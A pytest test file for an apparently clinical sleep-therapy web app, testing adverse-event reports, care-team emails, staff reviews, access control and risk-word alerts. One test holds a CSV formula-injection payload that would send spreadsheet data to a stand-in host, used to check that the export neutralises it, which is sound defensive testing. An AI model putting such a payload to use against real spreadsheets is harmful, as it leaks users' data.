"""Intended purpose and adverse events (issue 16, part 10): the About page; "Report a
problem with my care", routed by email to the therapist and the duty list after the
commit; the patient told "sent to your care team" if and only if an email went to a
person; the staff's own records, reviews and CSV export; the audit trail."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from django.core import mail
from django.test import Client, override_settings
from django.urls import reverse

from accounts.models import AuditEvent, Role
from program.about import CONDITIONS
from program.adverse_events import actions as service
from program.clinical_text import screen_question
from program.models import AdverseEvent
from program.rules.safety import HOLD_KEYS
from tests.conftest import client_for, make_user

DUTY = "duty@clinic.test"
SUBJECT = "A problem with a patient's care was reported — sign in"
TOLD = "Your report was sent to your care team by email."


def form(**changes: str) -> dict[str, str]:
    return {
        "what_happened": "I fell on the stairs at night, I was very sleepy.",
        "happened_on": "2026-11-20",
        "seriousness": "moderate",
        **changes,
    }


def sent_to(address: str) -> int:
    return sum(1 for m in mail.outbox if m.to == [address] and m.subject == SUBJECT)


@pytest.fixture(autouse=True)
def duty(settings):
    settings.RISK_DUTY_EMAILS = [DUTY]


# --- The patient's report ---------------------------------------------------------------


def test_a_report_is_emailed_to_the_therapist_and_the_duty_list_and_the_patient_told(
    patient, therapist, clinic_admin, django_capture_on_commit_callbacks
) -> None:
    client = client_for(patient)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("program:report_problem"), form())
    assert response.status_code == 302
    event = AdverseEvent.objects.get()
    assert event.kind == AdverseEvent.Kind.PATIENT_REPORT
    assert event.reported_by == patient
    assert sent_to(therapist.email) == sent_to(DUTY) == sent_to(clinic_admin.email) == 1
    assert "stairs" not in mail.outbox[0].body  # no health detail in an email
    assert "/clinic/adverse-events/" in mail.outbox[0].body
    assert event.emailed_to == [therapist.email, DUTY, clinic_admin.email]
    page = client.get(reverse("program:report_problem")).content.decode()
    assert TOLD in page
    # and the staff see it
    listed = client_for(therapist).get(reverse("program:adverse_events")).content.decode()
    assert "I fell on the stairs" in listed
    assert "Sent to 3 people" in listed


def test_not_told_when_the_email_never_went(
    patient, therapist, django_capture_on_commit_callbacks
) -> None:
    """The commit's callbacks dropped (the request died before them): nothing was sent,
    so nothing says so."""
    client = client_for(patient)
    with django_capture_on_commit_callbacks(execute=False):
        client.post(reverse("program:report_problem"), form())
    assert mail.outbox == []
    page = client.get(reverse("program:report_problem")).content.decode()
    assert TOLD not in page
    assert "the email to your care team could not be sent just now" in page


def test_not_told_when_the_mail_server_fails(
    patient, therapist, monkeypatch, django_capture_on_commit_callbacks
) -> None:
    def refuse(*args, **kwargs):
        raise OSError("mail server down")

    monkeypatch.setattr(service, "send_templated_email", refuse)
    client = client_for(patient)
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(reverse("program:report_problem"), form()).status_code == 302
    event = AdverseEvent.objects.get()
    assert event.emailed_to == []
    assert event.email_attempted_at is not None
    page = client.get(reverse("program:report_problem")).content.decode()
    assert TOLD not in page
    assert "could not be sent just now" in page
    listed = client_for(therapist).get(reverse("program:adverse_events")).content.decode()
    assert "Not sent" in listed


@override_settings(RISK_DUTY_EMAILS=[], CLINIC_CONTACT="01234 567 890")
def test_a_patient_nobody_can_be_told_about_is_told_that_and_whom_to_call(
    programme, django_capture_on_commit_callbacks
) -> None:
    alone = make_user("alone@example.test", Role.PATIENT)  # no therapist, no admins
    client = client_for(alone)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("program:report_problem"), form())
    assert mail.outbox == []
    page = client.get(reverse("program:report_problem")).content.decode()
    assert TOLD not in page
    assert "could not pass it on to anyone" in page
    assert "01234 567 890" in page


def test_told_iff_an_email_went_to_a_person(patient, therapist) -> None:
    event = AdverseEvent(patient=patient, recipients=[therapist.email], emailed_to=[])
    assert not service.told_care_team(event)
    assert TOLD not in service.patient_words(event)
    event.emailed_to = [therapist.email]
    assert service.told_care_team(event)
    assert TOLD in service.patient_words(event)


def test_a_report_with_mistakes_keeps_what_was_typed(patient) -> None:
    client = client_for(patient)
    response = client.post(
        reverse("program:report_problem"), form(happened_on="2999-01-01", seriousness="")
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert "That day is in the future: please check the date." in body
    assert "Please choose how serious it was." in body
    assert "I fell on the stairs at night" in body
    assert not AdverseEvent.objects.exists()
    response = client.post(reverse("program:report_problem"), form(happened_on="yesterday"))
    assert "Enter the day as a full date" in response.content.decode()


# --- Staff ------------------------------------------------------------------------------


def test_a_therapist_records_an_event_and_the_others_are_emailed(
    patient, therapist, clinic_admin, django_capture_on_commit_callbacks
) -> None:
    client = client_for(therapist)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("program:adverse_event_new", args=[patient.pk]),
            form(kind="withdrawal", what_happened="Rebound anxiety at the 50% step."),
        )
    assert response.status_code == 302
    event = AdverseEvent.objects.get()
    assert (event.kind, event.reported_by, event.reporter_role) == (
        "withdrawal",
        therapist,
        "therapist",
    )
    assert sent_to(therapist.email) == 0  # not to the one who wrote it
    assert sent_to(DUTY) == sent_to(clinic_admin.email) == 1
    # Recorded against the patient in the audit trail.
    assert AuditEvent.objects.filter(
        actor=therapist, patient=patient, action="change", path__contains="adverse-events"
    ).exists()


def test_a_restored_draft_says_to_record_it_as_the_button_does(patient, therapist) -> None:
    page = client_for(therapist).get(reverse("program:adverse_event_new", args=[patient.pk]))
    notice = re.search(r"<p [^>]*data-draft-restored[^>]*>(.*?)</p>", page.content.decode())
    assert notice, "no restored-draft notice"
    assert notice.group(1).endswith("Check it, then record it.")
    assert ">Record the event</button>" in page.content.decode()


def test_another_therapist_can_neither_record_nor_see_nor_review(
    patient, other_therapist, outsider_patient
) -> None:
    event = service.report(
        patient,
        by=patient,
        what_happened="x",
        happened_on=patient.local_today(),
        seriousness="mild",
    )
    client = client_for(other_therapist)
    assert client.get(reverse("program:adverse_event_new", args=[patient.pk])).status_code == 404
    review = reverse("program:adverse_event_review", args=[patient.pk, event.pk])
    assert client.post(review, {"note": "no"}).status_code == 404
    assert "x" not in [e.what_happened for e in service.events_for(other_therapist)]
    rows = list(
        csv.reader(
            io.StringIO(client.get(reverse("program:adverse_events_export")).content.decode())
        )
    )
    assert len(rows) == 1  # the header only
    event.refresh_from_db()
    assert event.reviewed_at is None


def test_reviewing_with_a_note_once(patient, therapist, clinic_admin) -> None:
    event = service.report(
        patient,
        by=patient,
        what_happened="Dizzy",
        happened_on=patient.local_today(),
        seriousness="mild",
    )
    url = reverse("program:adverse_event_review", args=[patient.pk, event.pk])
    client = client_for(therapist)
    assert client.post(url, {"note": ""}).status_code == 302
    event.refresh_from_db()
    assert event.reviewed_at is None  # a review needs its note
    client.post(url, {"note": "Called her: advised to sit up slowly."})
    event.refresh_from_db()
    assert (event.reviewed_by, event.review_note) == (
        therapist,
        "Called her: advised to sit up slowly.",
    )
    response = client_for(clinic_admin).post(url, {"note": "again"}, follow=True)
    assert "Someone had already reviewed this event." in response.content.decode()
    event.refresh_from_db()
    assert event.review_note == "Called her: advised to sit up slowly."
    assert AuditEvent.objects.filter(actor=therapist, patient=patient, path=url).exists()
    page = client_for(patient).get(reverse("program:report_problem")).content.decode()
    assert "A clinician reviewed it on" in page


def test_the_csv_export_is_formula_safe_and_audited(patient, clinic_admin) -> None:
    service.report(
        patient,
        by=patient,
        what_happened='=HYPERLINK("http://evil.test/?"&A1,"x")',
        happened_on=patient.local_today() - timedelta(days=1),
        seriousness="severe",
    )
    response = client_for(clinic_admin).get(reverse("program:adverse_events_export"))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == service.CSV_HEADER
    assert rows[1][6].startswith("'=HYPERLINK")
    assert rows[1][5] == "I was hurt, or needed a doctor or a hospital"
    assert AuditEvent.objects.filter(
        actor=clinic_admin, path=reverse("program:adverse_events_export")
    ).exists()


# --- About this software ----------------------------------------------------------------


@override_settings(
    SOFTWARE_MANUFACTURER="Open Sleep Collective", CLINIC_NAME="", APP_VERSION="1.2.3"
)
def test_the_about_page_says_what_the_software_is_for_and_not_for(db: None) -> None:
    response = Client().get(reverse("program:about"))
    assert response.status_code == 200
    page = response.content.decode()
    for words in (
        "It informs and supports: clinicians decide.",
        "For adults aged 18 and over",
        "Not an emergency service",
        "116 123",  # the crisis lines of the clinic's country (program.crisis.actions)
        "1.2.3",
        "Open Sleep Collective",
        "Not set by this installation (CLINIC_NAME).",
        "docs/sources.md",
    ):
        assert words in page, words
    for key in HOLD_KEYS:
        assert str(CONDITIONS.get(key) or screen_question(key)) in page.replace("&#x27;", "'")


def test_every_footer_links_to_the_about_page(patient, therapist) -> None:
    about = f'href="{reverse("program:about")}"'
    report = f'href="{reverse("program:report_problem")}"'
    assert about in Client().get(reverse("account_login")).content.decode()
    home = client_for(patient).get(reverse("program:patient_home")).content.decode()
    assert about in home and report in home
    caseload = client_for(therapist).get(reverse("program:caseload")).content.decode()
    assert about in caseload and report not in caseload


def test_the_patients_download_holds_their_reports_and_date_of_birth(patient, therapist) -> None:
    import json

    from tests.conftest import reauthenticated_client_for

    today = patient.local_today()
    service.report(patient, by=patient, what_happened="Mine", happened_on=today, seriousness="mild")
    service.report(
        patient,
        by=therapist,
        what_happened="Staff record",
        happened_on=today,
        seriousness="mild",
        kind="other",
    )
    response = reauthenticated_client_for(patient).get(reverse("program:my_data_json"))
    data = json.loads(response.content)
    assert [r["what_happened"] for r in data["problems_reported"]] == ["Mine"]
    assert data["account"][0]["date_of_birth"] == "1980-05-17"


def test_the_demo_clinic_shows_reports_ages_and_the_older_adults_proposal(
    db, django_capture_on_commit_callbacks
) -> None:
    from accounts.models import User
    from program.demo.clinic import load_demo
    from program.models import SleepCourse

    with django_capture_on_commit_callbacks(execute=True):
        load_demo()
    load_demo()  # idempotent
    taper = AdverseEvent.objects.get(patient__email="taper@example.com")
    assert "therapist@example.com" in taper.emailed_to  # it really went
    reviewed = AdverseEvent.objects.get(patient__email="week6@example.com")
    assert reviewed.reviewed_at is not None and reviewed.kind == "fall_or_accident"
    lapsed = SleepCourse.objects.get(patient__email="lapsed@example.com")
    assert lapsed.protocol.key == "compression"
    assert User.objects.get(email="grace@example.com").date_of_birth is None
    therapist = client_for(User.objects.get(email="therapist@example.com"))
    listed = therapist.get(reverse("program:adverse_events")).content.decode()
    assert "felt shaky" in listed


# --- Words the clinic flags, in a patient's report (issue 16: one risk workflow) ------

URGENT_SUBJECT = "Urgent: something a patient wrote needs a clinician's attention — sign in"
RISK_SUBJECTS = (
    "Something a patient wrote needs a clinician's attention — sign in",
    "A patient's answer needs a clinician's attention — sign in",
)


@pytest.fixture
def flagged_phrase(db) -> None:
    from program.models import RiskRule

    RiskRule.objects.get_or_create(kind="phrase", phrase="end my life")


def test_a_flagged_report_raises_the_urgency_not_a_second_email(
    patient, therapist, clinic_admin, flagged_phrase, django_capture_on_commit_callbacks
) -> None:
    from program.assessments.models import RiskAlert, RiskAlertEvent
    from program.risk import actions as risk

    client = client_for(patient)
    text = "Since the new window I am so low I want to end my life."
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("program:report_problem"), form(what_happened=text))
    event = AdverseEvent.objects.get()
    alert = RiskAlert.objects.get(patient=patient)
    assert alert.adverse_event == event and alert.source == "flagged_words"
    assert alert.matches[0]["where"] == "a problem report"
    # One email each, the report's, marked urgent and pointing at the alerts page.
    people = [therapist.email, DUTY, clinic_admin.email]
    assert [sum(1 for m in mail.outbox if m.to == [a]) for a in people] == [1, 1, 1]
    assert all(m.subject == URGENT_SUBJECT for m in mail.outbox)
    assert not any(m.subject in RISK_SUBJECTS or m.subject == SUBJECT for m in mail.outbox)
    assert all("/clinic/alerts/" in m.body and "end my life" not in m.body for m in mail.outbox)
    assert not alert.notices.exists()
    assert RiskAlertEvent.Kind.WITH_REPORT in alert.events.values_list("kind", flat=True)
    # The urgent flag and the escalation clock are the alert's, as for any other.
    caseload = client_for(therapist).get(reverse("program:caseload")).content.decode()
    assert "Urgent: words the clinic flags, in what the patient wrote" in caseload
    assert alert.escalated_at is None and alert.acknowledged_at is None
    alerts_page = client_for(therapist).get(reverse("program:risk_alerts")).content.decode()
    assert "Emailed as urgent with the patient's problem report to 3 people." in alerts_page
    assert "Nobody could be emailed" not in alerts_page
    # The patient: the crisis contacts at once, and the truth about the email.
    page = client.get(response.url).content.decode()
    assert str(risk.FLAGGED_WORDS) in page and "please talk to someone now" in page
    assert TOLD in page


def test_a_flagged_report_whose_email_fails_sends_the_alerts_own(
    patient, therapist, flagged_phrase, monkeypatch, django_capture_on_commit_callbacks
) -> None:
    from program.assessments.models import RiskAlert

    def refuse(*args, **kwargs):
        raise OSError("mail server down")

    monkeypatch.setattr(service, "send_templated_email", refuse)
    with django_capture_on_commit_callbacks(execute=True):
        client_for(patient).post(
            reverse("program:report_problem"), form(what_happened="I want to end my life")
        )
    alert = RiskAlert.objects.get()
    notice = alert.notices.get()
    assert notice.recipients[:2] == [therapist.email, DUTY]
    page = client_for(patient).get(reverse("program:report_problem")).content.decode()
    assert TOLD not in page


def test_a_clinicians_own_record_is_not_read_for_risk_words(
    patient, therapist, flagged_phrase
) -> None:
    from program.assessments.models import RiskAlert

    client_for(therapist).post(
        reverse("program:adverse_event_new", args=[patient.pk]),
        {**form(what_happened="Said they did not want to end my life talk."), "kind": "mood"},
    )
    assert AdverseEvent.objects.count() == 1 and not RiskAlert.objects.exists()
